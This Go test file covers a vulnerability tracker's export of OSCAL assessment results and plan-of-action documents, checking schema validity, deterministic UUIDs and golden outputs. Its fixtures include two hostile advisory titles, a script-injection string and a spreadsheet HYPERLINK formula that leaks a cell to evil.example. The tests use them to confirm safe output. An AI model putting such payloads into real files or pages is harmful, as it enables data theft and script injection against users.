package evidence_test

import (
	"bytes"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/santhosh-tekuri/jsonschema/v6"

	"github.com/sigwatch/sigwatch/evidence"
	"github.com/sigwatch/sigwatch/feeds"
	"github.com/sigwatch/sigwatch/intake"
	"github.com/sigwatch/sigwatch/kpi"
	"github.com/sigwatch/sigwatch/register"
	"github.com/sigwatch/sigwatch/triage"
)

// oscalSchema compiles one of the official OSCAL 1.1.3 JSON schemas in
// testdata/oscal (see SOURCES.md there), registered under its $id so that
// nothing is fetched, with format assertions on (date-time, uri, …).
func oscalSchema(t *testing.T, file, id string) *jsonschema.Schema {
	t.Helper()
	f, err := os.Open(filepath.Join("testdata", "oscal", file))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	doc, err := jsonschema.UnmarshalJSON(f)
	if err != nil {
		t.Fatal(err)
	}
	if got := doc.(map[string]any)["$id"]; got != id {
		t.Fatalf("%s: $id %v, want %s", file, got, id)
	}
	c := jsonschema.NewCompiler()
	c.AssertFormat()
	if err := c.AddResource(id, doc); err != nil {
		t.Fatal(err)
	}
	sch, err := c.Compile(id)
	if err != nil {
		t.Fatal(err)
	}
	return sch
}

func arSchema(t *testing.T) *jsonschema.Schema {
	return oscalSchema(t, "oscal_assessment-results_schema.json", evidence.OSCALAssessmentResultsSchema)
}

func poamSchema(t *testing.T) *jsonschema.Schema {
	return oscalSchema(t, "oscal_poam_schema.json", evidence.OSCALPOAMSchema)
}

func validate(t *testing.T, sch *jsonschema.Schema, data []byte) error {
	t.Helper()
	inst, err := jsonschema.UnmarshalJSON(bytes.NewReader(data))
	if err != nil {
		t.Fatal(err)
	}
	return sch.Validate(inst)
}

// openCases are cases built by hand: two open actionable ones with hostile
// titles (one overdue at the as-of instant, one with an SLA exception), an
// open informational one and a closed actionable one (neither in the
// POA&M).
func openCases() []intake.Case {
	due1 := time.Date(2026, 11, 20, 0, 0, 0, 0, time.UTC)
	due2 := time.Date(2026, 12, 15, 0, 0, 0, 0, time.UTC)
	return []intake.Case{
		{ID: "CVE-2026-1111", Advisory: feeds.Advisory{ID: "CVE-2026-1111", Title: `<script>alert("x")</script> in Widget`,
			Aliases: []string{"GHSA-xxxx-yyyy-zzzz"}},
			Receipts: []intake.Receipt{{Source: "cisa-kev", Group: "cisa", AdvisoryID: "CVE-2026-1111",
				ReceivedAt: time.Date(2026, 11, 10, 8, 0, 0, 0, time.UTC)}},
			State: intake.StateAssigned, Decision: triage.DecisionActionable, Owner: "netops\nteam", Due: due2,
			Triage: &triage.Result{Decision: triage.DecisionActionable, Priority: "P2", RuleID: "kev-internet",
				Reasons: []string{"Listed in CISA KEV.", "Widget 1.2 is internet-facing."}}},
		{ID: "CVE-2026-2222", Advisory: feeds.Advisory{ID: "FG-IR-26-001", Aliases: []string{"CVE-2026-2222", "CVE-2026-2223"},
			Title: `=HYPERLINK("http://evil.example/?leak="&A1,"click me")`},
			Receipts: []intake.Receipt{{Source: "fortinet-psirt", AdvisoryID: "FG-IR-26-001",
				ReceivedAt: time.Date(2026, 11, 12, 9, 30, 0, 0, time.UTC)}},
			State: intake.StateTriaged, Decision: triage.DecisionActionable, Owner: "  ", Due: due1},
		{ID: "CVE-2026-3333", Advisory: feeds.Advisory{ID: "CVE-2026-3333", Title: "Informational"},
			State: intake.StateTriaged, Decision: triage.DecisionInformational},
		{ID: "CVE-2026-4444", Advisory: feeds.Advisory{ID: "CVE-2026-4444", Title: "Closed"},
			State: intake.StateClosed, Decision: triage.DecisionActionable, Owner: "netops", Due: due1},
	}
}

func openInput() evidence.OSCALInput {
	return evidence.OSCALInput{Register: fixtureRegister(), Cases: openCases(),
		AsOf: time.Date(2026, 12, 1, 0, 0, 0, 0, time.UTC), Period: kpi.Quarter(2026, 4), Generator: "sigwatch test"}
}

func write(t *testing.T, fn func(*bytes.Buffer) error) []byte {
	t.Helper()
	var b bytes.Buffer
	if err := fn(&b); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// TestOSCALPackValidates validates the OSCAL files of the fixture pack
// against the official schemas.
func TestOSCALPackValidates(t *testing.T) {
	dir := t.TempDir()
	writeFixturePack(t, dir)
	for _, tc := range []struct {
		file string
		sch  *jsonschema.Schema
	}{
		{"oscal-assessment-results.json", arSchema(t)},
		{"oscal-poam.json", poamSchema(t)},
	} {
		data, err := os.ReadFile(filepath.Join(dir, tc.file))
		if err != nil {
			t.Fatal(err)
		}
		if err := validate(t, tc.sch, data); err != nil {
			t.Errorf("%s does not validate: %v", tc.file, err)
		}
	}
}

// TestOSCALPOAMOpenCases validates a POA&M with open items (hostile titles,
// a multi-line owner, an empty owner) and compares it with its golden file.
func TestOSCALPOAMOpenCases(t *testing.T) {
	got := write(t, func(b *bytes.Buffer) error { return evidence.WriteOSCALPOAM(b, openInput()) })
	if err := validate(t, poamSchema(t), got); err != nil {
		t.Fatalf("POA&M does not validate: %v\n%s", err, got)
	}
	golden(t, "oscal-poam-open.json", got)

	var doc struct {
		POAM struct {
			Items []struct {
				Title   string `json:"title"`
				Remarks string `json:"remarks"`
				Props   []struct{ Name, Value string }
			} `json:"poam-items"`
			Risks []struct {
				Deadline string `json:"deadline"`
				Status   string `json:"status"`
			} `json:"risks"`
		} `json:"plan-of-action-and-milestones"`
	}
	if err := json.Unmarshal(got, &doc); err != nil {
		t.Fatal(err)
	}
	// Two items, earliest due first; the hostile titles come back unchanged
	// as JSON strings.
	var titles []string
	for _, it := range doc.POAM.Items {
		titles = append(titles, it.Title)
	}
	want := []string{`=HYPERLINK("http://evil.example/?leak="&A1,"click me")`, `<script>alert("x")</script> in Widget`}
	if diff := cmp.Diff(want, titles); diff != "" {
		t.Errorf("poam-item titles (-want +got):\n%s", diff)
	}
	props := func(i int, name string) []string {
		var out []string
		for _, p := range doc.POAM.Items[i].Props {
			if p.Name == name {
				out = append(out, p.Value)
			}
		}
		return out
	}
	if diff := cmp.Diff([]string{"CVE-2026-2222", "CVE-2026-2223"}, props(0, "cve")); diff != "" {
		t.Errorf("item 0 CVEs (-want +got):\n%s", diff)
	}
	if got := props(0, "owner"); got != nil {
		t.Errorf("item 0 owner %q, want none (blank owner)", got)
	}
	if diff := cmp.Diff([]string{"netops team"}, props(1, "owner")); diff != "" {
		t.Errorf("item 1 owner (-want +got):\n%s", diff)
	}
	if diff := cmp.Diff([]string{"2026-12-15T00:00:00Z"}, props(1, "due")); diff != "" {
		t.Errorf("item 1 due (-want +got):\n%s", diff)
	}
	if r := doc.POAM.Items[0].Remarks; !strings.Contains(r, "No owner assigned.") || !strings.Contains(r, "Overdue as of 2026-12-01T00:00:00Z.") {
		t.Errorf("item 0 remarks %q", r)
	}
	if r := doc.POAM.Items[1].Remarks; !strings.Contains(r, "Owner netops\nteam must act by 2026-12-15T00:00:00Z.") ||
		!strings.Contains(r, "Listed in CISA KEV.") {
		t.Errorf("item 1 remarks %q", r)
	}
	if len(doc.POAM.Risks) != 2 || doc.POAM.Risks[0].Deadline != "2026-11-20T00:00:00Z" || doc.POAM.Risks[0].Status != "open" ||
		doc.POAM.Risks[1].Status != "remediating" {
		t.Errorf("risks = %+v", doc.POAM.Risks)
	}
	// No HTML escaping (\u003c) and no raw control characters in the bytes.
	if bytes.Contains(got, []byte(`\u003c`)) || !bytes.Contains(got, []byte(`"<script>alert(\"x\")</script> in Widget"`)) {
		t.Errorf("hostile title not written as plain JSON text")
	}
}

// TestOSCALBrokenFails shows the validation can fail: each document minus
// a required member, or with a bad value, is rejected.
func TestOSCALBrokenFails(t *testing.T) {
	in := openInput()
	ar := write(t, func(b *bytes.Buffer) error { return evidence.WriteOSCALAssessmentResults(b, in) })
	poam := write(t, func(b *bytes.Buffer) error { return evidence.WriteOSCALPOAM(b, in) })
	arSch, poamSch := arSchema(t), poamSchema(t)
	if err := validate(t, arSch, ar); err != nil {
		t.Fatalf("assessment results do not validate: %v", err)
	}
	mutate := func(data []byte, fn func(m map[string]any)) []byte {
		var m map[string]any
		if err := json.Unmarshal(data, &m); err != nil {
			t.Fatal(err)
		}
		fn(m)
		out, err := json.Marshal(m)
		if err != nil {
			t.Fatal(err)
		}
		return out
	}
	obj := func(v any, key string) map[string]any { return v.(map[string]any)[key].(map[string]any) }
	tests := []struct {
		name string
		sch  *jsonschema.Schema
		data []byte
	}{
		{"ar without import-ap", arSch, mutate(ar, func(m map[string]any) { delete(obj(m, "assessment-results"), "import-ap") })},
		{"ar without oscal-version", arSch, mutate(ar, func(m map[string]any) { delete(obj(obj(m, "assessment-results"), "metadata"), "oscal-version") })},
		{"ar with a random-version uuid", arSch, mutate(ar, func(m map[string]any) {
			obj(m, "assessment-results")["uuid"] = "16ea80f8-ebda-1004-87b0-3b7a192872e7"
		})},
		{"ar with a local last-modified", arSch, mutate(ar, func(m map[string]any) {
			obj(obj(m, "assessment-results"), "metadata")["last-modified"] = "2026-12-01T00:00:00"
		})},
		{"poam without poam-items", poamSch, mutate(poam, func(m map[string]any) { delete(obj(m, "plan-of-action-and-milestones"), "poam-items") })},
		{"poam with an unknown member", poamSch, mutate(poam, func(m map[string]any) { obj(m, "plan-of-action-and-milestones")["owner"] = "x" })},
	}
	for _, tc := range tests {
		if err := validate(t, tc.sch, tc.data); err == nil {
			t.Errorf("%s: validated, want a schema error", tc.name)
		}
	}
}

// TestOSCALDeterministic: same inputs, same bytes; another as-of instant,
// other UUIDs.
func TestOSCALDeterministic(t *testing.T) {
	for _, fn := range []func(*bytes.Buffer, evidence.OSCALInput) error{
		func(b *bytes.Buffer, in evidence.OSCALInput) error {
			return evidence.WriteOSCALAssessmentResults(b, in)
		},
		func(b *bytes.Buffer, in evidence.OSCALInput) error { return evidence.WriteOSCALPOAM(b, in) },
	} {
		a := write(t, func(b *bytes.Buffer) error { return fn(b, openInput()) })
		b := write(t, func(b *bytes.Buffer) error { return fn(b, openInput()) })
		if !bytes.Equal(a, b) {
			t.Errorf("same inputs gave different bytes")
		}
		later := openInput()
		later.AsOf = later.AsOf.Add(time.Hour)
		c := write(t, func(b *bytes.Buffer) error { return fn(b, later) })
		uuids := regexp.MustCompile(`"uuid": "([^"]+)"`)
		if ua, uc := uuids.FindSubmatch(a), uuids.FindSubmatch(c); ua == nil || uc == nil || bytes.Equal(ua[1], uc[1]) {
			t.Errorf("document UUID did not change with the as-of instant: %s vs %s", ua, uc)
		}
	}
}

// TestOSCALUUIDs checks the UUID derivation against Python's uuid.uuid5
// (an independent implementation of RFC 4122 section 4.3):
//
//	sp = uuid.uuid5(uuid.NAMESPACE_URL, "https://github.com/sigwatch/sigwatch/ns/oscal")
//	uuid.uuid5(sp, "\x1f".join(["Example Bank plc", "2026-Q4", "2026-12-01T00:00:00Z", "assessment-results"]))
//	→ 16ea80f8-ebda-5004-87b0-3b7a192872e7 (and "poam" → 30323cf1-3c77-560a-accc-281a878c04b6)
func TestOSCALUUIDs(t *testing.T) {
	in := openInput()
	for _, tc := range []struct {
		write func(*bytes.Buffer) error
		want  string
	}{
		{func(b *bytes.Buffer) error { return evidence.WriteOSCALAssessmentResults(b, in) }, "16ea80f8-ebda-5004-87b0-3b7a192872e7"},
		{func(b *bytes.Buffer) error { return evidence.WriteOSCALPOAM(b, in) }, "30323cf1-3c77-560a-accc-281a878c04b6"},
	} {
		var doc map[string]map[string]any
		if err := json.Unmarshal(write(t, tc.write), &doc); err != nil {
			t.Fatal(err)
		}
		for _, body := range doc {
			if body["uuid"] != tc.want {
				t.Errorf("document uuid %v, want %s", body["uuid"], tc.want)
			}
		}
	}
}

// TestOSCALAssessmentResults checks the content of the assessment results:
// period, observations citing the pack files with their hashes, and the
// finding's state following the register health (the fixture register has
// one error finding: sector-isac's owner jlee has left).
func TestOSCALAssessmentResults(t *testing.T) {
	dir := t.TempDir()
	m := writeFixturePack(t, dir)
	data, err := os.ReadFile(filepath.Join(dir, "oscal-assessment-results.json"))
	if err != nil {
		t.Fatal(err)
	}
	golden(t, "oscal-assessment-results.json", data)
	var doc struct {
		AR struct {
			Results []struct {
				Start, End   string
				Observations []struct {
					Collected, Expires string
					Evidence           []struct {
						Href  string
						Props []struct{ Name, Value string }
					} `json:"relevant-evidence"`
				}
				Findings []struct {
					Target struct {
						TargetID string `json:"target-id"`
						Status   struct{ State, Reason string }
					}
				}
			}
		} `json:"assessment-results"`
	}
	if err := json.Unmarshal(data, &doc); err != nil {
		t.Fatal(err)
	}
	r := doc.AR.Results[0]
	if r.Start != "2026-10-01T00:00:00Z" || r.End != "2027-01-01T00:00:00Z" {
		t.Errorf("result start/end = %s/%s", r.Start, r.End)
	}
	sums := map[string]string{}
	for _, f := range m.Files {
		sums[f.Name] = f.SHA256
	}
	var cited []string
	for _, o := range r.Observations {
		if o.Collected != "2026-12-01T00:00:00Z" || o.Expires != "2027-03-01T00:00:00Z" {
			t.Errorf("observation collected/expires = %s/%s", o.Collected, o.Expires)
		}
		for _, e := range o.Evidence {
			cited = append(cited, e.Href)
			if len(e.Props) == 0 || e.Props[0].Name != "sha256" || e.Props[0].Value != sums[e.Href] {
				t.Errorf("%s: props %+v, want sha256 %s", e.Href, e.Props, sums[e.Href])
			}
		}
	}
	wantCited := []string{"register.csv", "register.json", "register.md", "reviews.csv", "reviews.json",
		"response-log.csv", "response-log.json", "register-health.csv", "register-health.json", "register-health.md"}
	if diff := cmp.Diff(wantCited, cited); diff != "" {
		t.Errorf("cited files (-want +got):\n%s", diff)
	}
	if f := r.Findings[0].Target; f.TargetID != "A.5.6" || f.Status.State != "not-satisfied" || f.Status.Reason != "fail" {
		t.Errorf("finding target = %+v, want A.5.6 not-satisfied/fail", f)
	}

	// Without the error finding (an active owner) the control is satisfied.
	reg := fixtureRegister()
	reg.Groups[0].Owner = "akhan"
	if h := evidence.HealthReport(reg, time.Date(2026, 12, 1, 0, 0, 0, 0, time.UTC)); h.Summary.Error != 0 {
		t.Fatalf("trimmed register still has %d error findings: %+v", h.Summary.Error, h.Records)
	}
	in := evidence.OSCALInput{Register: reg, AsOf: time.Date(2026, 12, 1, 0, 0, 0, 0, time.UTC)}
	out := write(t, func(b *bytes.Buffer) error { return evidence.WriteOSCALAssessmentResults(b, in) })
	if err := validate(t, arSchema(t), out); err != nil {
		t.Fatalf("does not validate: %v", err)
	}
	if !bytes.Contains(out, []byte(`"state": "satisfied"`)) {
		t.Errorf("finding not satisfied for a register without error findings")
	}
}

func TestOSCALInputErrors(t *testing.T) {
	var b bytes.Buffer
	for _, tc := range []struct {
		name string
		in   evidence.OSCALInput
		want string
	}{
		{"no register", evidence.OSCALInput{AsOf: time.Now()}, "evidence: "},
		{"no as-of", evidence.OSCALInput{Register: &register.Register{}}, "evidence: OSCAL documents need an as-of time"},
		{"year 3000", evidence.OSCALInput{Register: &register.Register{}, AsOf: time.Date(3000, 1, 1, 0, 0, 0, 0, time.UTC)},
			"outside the years OSCAL admits"},
	} {
		for _, fn := range []func() error{
			func() error { return evidence.WriteOSCALAssessmentResults(&b, tc.in) },
			func() error { return evidence.WriteOSCALPOAM(&b, tc.in) },
		} {
			if err := fn(); err == nil || !strings.Contains(err.Error(), tc.want) {
				t.Errorf("%s: error %v, want %q", tc.name, err, tc.want)
			}
		}
	}
}

// golden compares got with testdata/<name>.golden (rewritten with -update).
func golden(t *testing.T, name string, got []byte) {
	t.Helper()
	path := filepath.Join("testdata", name+".golden")
	if *update {
		if err := os.WriteFile(path, got, 0o644); err != nil {
			t.Fatal(err)
		}
		return
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("%v (run go test -update to create it)", err)
	}
	if diff := cmp.Diff(string(want), string(got)); diff != "" {
		t.Errorf("%s differs from %s (-want +got):\n%s", name, path, diff)
	}
}

func ExampleWriteOSCALPOAM() {
	reg := &register.Register{Organisation: register.Organisation{Name: "Example Bank plc"}}
	cases := []intake.Case{{ID: "CVE-2024-21762",
		Advisory: feeds.Advisory{ID: "CVE-2024-21762", Title: "Fortinet FortiOS Out-of-Bound Write"},
		State:    intake.StateAssigned, Decision: triage.DecisionActionable, Owner: "netops",
		Due: time.Date(2026, 12, 8, 0, 0, 0, 0, time.UTC)}}
	var b bytes.Buffer
	err := evidence.WriteOSCALPOAM(&b, evidence.OSCALInput{Register: reg, Cases: cases,
		AsOf: time.Date(2026, 12, 1, 0, 0, 0, 0, time.UTC)})
	if err != nil {
		panic(err)
	}
	var doc struct {
		POAM struct {
			Items []struct{ Title, Remarks string } `json:"poam-items"`
		} `json:"plan-of-action-and-milestones"`
	}
	if err := json.Unmarshal(b.Bytes(), &doc); err != nil {
		panic(err)
	}
	for _, it := range doc.POAM.Items {
		fmt.Printf("%s: %s\n", it.Title, it.Remarks)
	}
	// Output:
	// Fortinet FortiOS Out-of-Bound Write: Owner netops must act by 2026-12-08T00:00:00Z.
}
